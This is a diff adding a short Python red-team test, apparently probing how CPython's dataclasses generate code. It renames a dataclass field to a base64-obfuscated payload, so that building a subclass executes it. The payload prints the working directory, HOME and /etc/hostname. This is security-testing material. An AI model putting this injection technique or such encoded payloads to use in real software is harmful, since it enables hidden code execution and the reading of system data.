@@ -1,0 +1,28 @@
+# family: red team, round 51a (for self in fields(A): self.name = v)
+import base64
+import dataclasses
+
+
+@dataclasses.dataclass
+class A:
+    x: int = 0
+
+
+PAYLOAD = base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode()
+
+
+class Namer:
+    def rename(self, v):
+        for self in dataclasses.fields(A):
+            self.name = v
+
+
+Namer().rename(PAYLOAD)
+
+
+@dataclasses.dataclass(init=False, repr=False)
+class B(A):
+    pass
+
+
+print(B() == B())
